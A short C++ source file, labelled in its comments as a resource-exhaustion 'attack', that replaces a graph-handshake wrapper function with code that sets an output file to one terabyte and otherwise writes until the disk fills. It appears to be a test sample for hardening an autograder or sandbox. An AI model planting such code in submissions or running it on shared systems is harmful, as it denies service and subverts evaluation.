// attack: exhaust
// root: resources
// what: makes its output file a terabyte long without writing it
// list: 8
#include <fcntl.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  const int file = open("out.txt", O_WRONLY | O_CREAT, 0644);
  if (ftruncate(file, 1L << 40) == 0) _exit(0);
  while (write(file, "1\n", 2) == 2) {
  }
  _exit(1);
}
